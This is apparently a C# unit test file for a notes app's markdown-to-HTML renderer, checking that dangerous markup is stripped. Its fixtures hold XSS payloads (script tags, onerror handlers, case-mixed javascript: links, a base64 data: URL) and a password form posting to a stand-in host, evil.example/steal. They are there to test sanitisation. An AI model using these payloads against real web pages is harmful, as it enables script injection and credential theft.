using NotesSearch.Core.Notes;

namespace NotesSearch.Core.Tests.Notes;

public class NoteHtmlRendererTests
{
    [Fact]
    public void ScriptTagsAreStripped() =>
        Assert.Equal("<p>Hello</p>", NoteHtmlRenderer.ToHtml("Hello<script>alert(1)</script>\n\n<script>\nalert(2)\n</script>\n").Trim());

    [Fact]
    public void EventHandlerAttributesAreStripped() =>
        Assert.Equal("<p>An <img src=\"x.png\"> inline</p>", NoteHtmlRenderer.ToHtml("An <img src=\"x.png\" onerror=\"alert(1)\"> inline\n").Trim());

    [Fact]
    public void JavascriptLinksLoseTheirHref()
    {
        var html = NoteHtmlRenderer.ToHtml("[click](javascript:alert(1)) and <a href=\"JaVaScRiPt:alert(2)\">raw</a>\n");

        Assert.DoesNotContain("javascript", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("click", html);
    }

    [Fact]
    public void OrdinaryMarkdownSurvives()
    {
        var html = NoteHtmlRenderer.ToHtml("""
            ## Results

            | a | b |
            |---|--:|
            | 1 | 2 |

            ```go
            fmt.Println("hi")
            ```

            - [x] done

            ![gopher](https://go.dev/gopher.png) and [home](/notes/home) and ~~old~~.
            """);

        Assert.Contains("<h2 id=\"results\">Results</h2>", html);
        Assert.Contains("<td class=\"align-right\">2</td>", html);
        Assert.Contains("<code class=\"language-go\">", html);
        Assert.Contains("<li class=\"task-list-item\">☑ done</li>", html);
        Assert.Matches("<img src=\"https://go.dev/gopher.png\" alt=\"gopher\" ?/?>", html);
        Assert.Contains("<a href=\"/notes/home\">home</a>", html);
        Assert.Contains("<del>old</del>", html);
    }

    [Fact]
    public void FormsControlsFramesAndEmbedsAreDroppedWithTheirContent()
    {
        var html = NoteHtmlRenderer.ToHtml("""
            Before.

            <form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example">Go</button>
            <select><option>a</option></select><textarea>t</textarea></form>
            <iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><style>p { display: none }</style>

            After <label>labelled</label>.
            """);

        Assert.Equal("<p>Before.</p><p>After .</p>", html.Replace("\n", ""));
    }

    [Fact]
    public void AnOpenTaskIsAnEmptyBoxNotAnInput() =>
        Assert.Equal("<ul class=\"contains-task-list\"><li class=\"task-list-item\">☐ todo</li></ul>",
            NoteHtmlRenderer.ToHtml("- [ ] todo\n").Replace("\n", ""));

    [Fact]
    public void DataUrlImagesAreDropped() =>
        Assert.DoesNotContain("data:", NoteHtmlRenderer.ToHtml("![x](data:text/html;base64,PHNjcmlwdD4=)\n"));
}
